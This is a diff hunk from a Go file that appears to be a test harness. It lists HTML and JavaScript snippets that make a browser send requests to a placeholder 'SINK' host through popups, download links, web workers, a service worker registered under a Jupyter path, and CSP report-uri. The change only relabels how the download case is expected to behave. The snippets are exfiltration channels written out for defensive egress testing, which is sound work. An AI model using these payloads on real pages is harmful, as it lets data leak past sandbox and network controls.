@@ -73,7 +73,7 @@ var ways = []way{
 	{name: "manifest", page: `<link rel="manifest" href="SINK"><link rel="icon" href="SINK">`},
 	{name: "popup", page: `<script>window.open("SINK")</script>`},
 	{name: "link-new-tab", page: `<a id="a" href="SINK" target="_blank">x</a><script>a.click()</script>`},
-	{name: "download", page: `<a id="a" href="SINK" download="x">x</a><script>a.click()</script>`, open: asks},
+	{name: "download", page: `<a id="a" href="SINK" download="x">x</a><script>a.click()</script>`, open: navigates},
 	{name: "worker", page: `<script>new Worker(URL.createObjectURL(new Blob(["fetch('SINK',{mode:'no-cors'});importScripts('SINK')"])))</script>`},
 	{name: "service-worker", page: `<script>navigator.serviceWorker&&navigator.serviceWorker.register("/jupyter/lab?worker=SINK",{scope:"/jupyter/"}).catch(()=>{})</script>`},
 	{name: "report-to", page: `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri SINK"><img src="/jupyter/x">`},
